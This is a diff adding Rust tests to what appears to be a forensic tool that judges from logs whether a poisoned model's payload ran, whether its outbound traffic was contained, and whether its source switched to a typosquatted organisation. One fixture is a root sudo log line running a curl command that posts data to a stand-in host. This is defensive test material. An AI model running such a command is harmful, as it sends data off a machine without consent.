@@ -155,3 +155,68 @@ fn what_is_affected_is_named_with_how_sure_it_is() {
     assert!(names(ReachKind::File).contains(&("mirror/ranker-v2.pkl", high)));
     assert!(!names(ReachKind::File).iter().any(|(name, _)| name.contains("golden")));
 }
+
+#[test]
+fn who_stops_the_traffic_is_no_process_of_the_payload() {
+    let ran = |line: &str| {
+        let case = case(MODELS, &[("server.log", LOADED), ("host.log", line)]);
+        judged(&case, "payload-ran").expect("a judgement on it").status
+    };
+    let sudo = |terminal: &str, command: &str| {
+        format!(
+            "2026-03-05T10:20:00Z infer-1 sudo: kim : TTY={terminal} ; PWD=/home/kim ; USER=root ; \
+             COMMAND={command}\n"
+        )
+    };
+    let block = "/usr/sbin/nft add rule inet fw out ip daddr hub.example drop";
+    assert_ne!(ran(&sudo("pts/0", block)), Status::Observed);
+    assert_ne!(ran(&sudo("unknown", block)), Status::Observed);
+    let payload = "/usr/bin/curl -d x https://hub.example/b";
+    assert_ne!(ran(&sudo("pts/0", payload)), Status::Observed);
+    assert_eq!(ran(&sudo("unknown", payload)), Status::Observed);
+}
+
+#[test]
+fn another_way_out_is_open_only_when_something_went_through_it_after_the_block() {
+    let told = |then: &str| {
+        let traffic = format!(
+            "2026-03-05T10:00:30Z ALLOW TCP 10.0.0.5:4000 -> 203.0.113.9:443 host=hub.example bytes_out=90\n\
+             2026-03-05T10:20:30Z DENY TCP 10.0.0.5:4002 -> 203.0.113.9:443 host=hub.example\n{then}"
+        );
+        let case = case(MODELS, &[("server.log", LOADED), ("net.log", &traffic)]);
+        judged(&case, "contained").expect("a judgement on it").statement.clone()
+    };
+    let other = |time: &str, verdict: &str, bytes: &str| {
+        format!(
+            "2026-03-05T{time}Z {verdict} TCP 10.0.0.6:4000 -> 203.0.113.9:443 host=hub.example{bytes}\n"
+        )
+    };
+    let open = told(&other("10:40:00", "ALLOW", " bytes_out=90"));
+    assert!(open.starts_with("it is not contained: attempts were stopped from"), "{open}");
+    for (time, verdict, bytes) in [
+        ("10:40:00", "DENY", " bytes_out=90"),
+        ("10:40:00", "ALLOW", ""),
+        ("10:10:00", "ALLOW", " bytes_out=90"),
+    ] {
+        let closed = told(&other(time, verdict, bytes));
+        assert!(!closed.starts_with("it is not contained"), "{closed}");
+    }
+}
+
+#[test]
+fn an_organisation_that_is_spelled_almost_alike_is_named_and_another_is_not() {
+    let told = |after: &str| {
+        let log = format!(
+            "2026-03-01 09:00:01 INFO Source: hub.example/harbour-labs/rank@4f1c9d2e7a\n\
+             2026-03-01 09:00:10 INFO Model rank.pkl deployed to production\n\
+             2026-03-05 09:58:01 INFO Source: hub.example/{after}/rank@5e0c91d4a7\n\
+             2026-03-05 09:58:10 INFO Model rank.pkl deployed to production\n"
+        );
+        let case = case(MODELS, &[("deploy.log", &log), ("net.log", TRAFFIC)]);
+        judged(&case, "source-changed").map(|it| it.statement.clone()).unwrap_or_default()
+    };
+    assert!(told("harbor-labs").ends_with("`harbor-labs` is spelled almost like `harbour-labs`"));
+    assert!(told("quayside").starts_with("its source changed from"));
+    assert!(!told("quayside").contains("spelled"));
+    assert!(!told("harbour-labs").contains("spelled"));
+}
